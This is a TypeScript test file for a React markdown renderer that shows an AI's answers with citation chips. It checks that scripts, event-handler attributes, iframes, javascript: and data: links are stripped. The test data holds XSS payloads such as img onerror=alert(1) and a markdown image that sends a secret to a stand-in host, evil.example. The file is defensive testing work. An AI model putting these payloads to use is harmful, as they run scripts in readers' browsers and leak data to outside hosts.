// @vitest-environment happy-dom

import { act } from 'react'
import { createRoot } from 'react-dom/client'
import { expect, test } from 'vitest'
import { type Citation, citationsOf } from '@/lib/core/citations'
import { RenderedMarkdown as Markdown } from './rendered-markdown'
import { HOSTILE, IMAGES, LINKS } from './testing/hostile-markdown'

Reflect.set(globalThis, 'IS_REACT_ACT_ENVIRONMENT', true)

function render(
  text: string,
  citations: Citation[] = [],
  onCite: (citation: Citation) => void = () => {},
): HTMLElement {
  const holder = document.createElement('div')
  act(() => createRoot(holder).render(<Markdown text={text} citations={citations} onCite={onCite} />))
  return holder
}

const citation: Citation = {
  number: 1,
  chunkId: 'c',
  documentName: 'Handbook.pdf',
  page: 3,
  start: 0,
  end: 5,
  quote: 'Hello',
}

test('HTML in a model’s text is not rendered', () => {
  const html = render('<script>alert(1)</script><img src=x onerror=alert(1)> <b>hi</b>\n\n<iframe src="//x"></iframe>')
  expect(html.querySelectorAll('script, img, iframe, b')).toHaveLength(0)
})

test.each(HOSTILE)('renders neither markup nor links for %j', (markdown) => {
  const html = render(markdown)
  expect(html.querySelector('script, img, iframe, a, b, style, link')).toBeNull()
  // A code block has buttons with icons.
  expect([...html.querySelectorAll('svg')].filter((icon) => !icon.closest('button'))).toEqual([])
  for (const node of html.querySelectorAll('*'))
    expect([...node.attributes].some((attribute) => attribute.name.startsWith('on'))).toBe(false)
})

test.each(IMAGES)('renders the image %j as its description, without a request', (markdown) => {
  const html = render(markdown)
  expect(html.querySelector('img, picture, video, audio, [src], [style], [srcset]')).toBeNull()
  expect(html.textContent).toContain('a')
})

test.each(LINKS)('%s is a link', (markdown, href) => {
  expect(render(markdown).querySelector('a')?.getAttribute('href')).toBe(href)
})

test('external images are replaced by their description, workspace images are kept', () => {
  const own = '/api/files/0190a000-0000-7000-8000-000000000001'
  const html = render(`![leak](https://evil.example/?q=secret) ![own](${own})`)
  expect([...html.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([own])
  expect(html.textContent).toContain('leak')
})

test('links go to http, https and mailto only and have noopener', () => {
  const html = render('[a](javascript:alert(1)) [b](https://example.com) [c](//evil.example) [d](data:text/html,x)')
  const links = [...html.querySelectorAll('a')]
  expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://example.com'])
  expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('a number in brackets opens the citation if the answer has it', () => {
  const opened: Citation[] = []
  const html = render('Yes [1], no [2], `code [1]`.', [citation], (found) => opened.push(found))
  const chips = html.querySelectorAll('button')
  expect([...chips].map((chip) => chip.textContent)).toEqual(['1'])
  expect(html.textContent).toContain('no [2]')
  act(() => chips[0]?.click())
  expect(opened).toEqual([citation])
})

test('a full stop stays on the line of the preceding citation', () => {
  const html = render('Two weeks [1]. More.', [citation])
  expect(html.querySelector('.cited')?.textContent).toBe('1.')
  expect(html.textContent).toBe('Two weeks 1. More.')
})

test('renders tables, lists and code', () => {
  const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```js\nlet a\n```')
  expect([html.querySelectorAll('td').length, html.querySelectorAll('li').length]).toEqual([2, 1])
  expect(html.querySelector('pre')?.textContent).toBe('let a')
})

test('reads citations from outputs, falls back to passages and ignores invalid data', () => {
  expect(citationsOf({ citations: [{ ...citation, documentId: 'd' }, 'junk', { number: 'x' }] })).toEqual([citation])
  const passage = { chunkId: 'c', documentName: 'A.md', page: null, start: 1, end: 2, text: 'T', score: 1 }
  expect(citationsOf({ citations: [], documents: [passage] })).toEqual([
    { chunkId: 'c', documentName: 'A.md', page: null, start: 1, end: 2, number: 1, quote: 'T' },
  ])
  expect(citationsOf(null)).toEqual([])
})
